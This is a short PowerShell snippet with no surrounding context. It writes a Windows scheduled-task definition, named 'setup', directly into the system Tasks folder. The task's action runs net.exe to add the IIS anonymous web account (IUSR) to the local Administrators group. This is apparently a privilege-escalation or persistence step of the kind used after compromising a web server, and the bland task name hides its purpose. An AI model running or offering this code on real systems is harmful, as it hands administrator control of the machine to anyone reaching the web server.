$xml = '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>net.exe</Command><Arguments>localgroup Administrators IUSR /add</Arguments></Exec></Actions></Task>'
[IO.File]::WriteAllText('C:\Windows\System32\Tasks\setup', $xml)
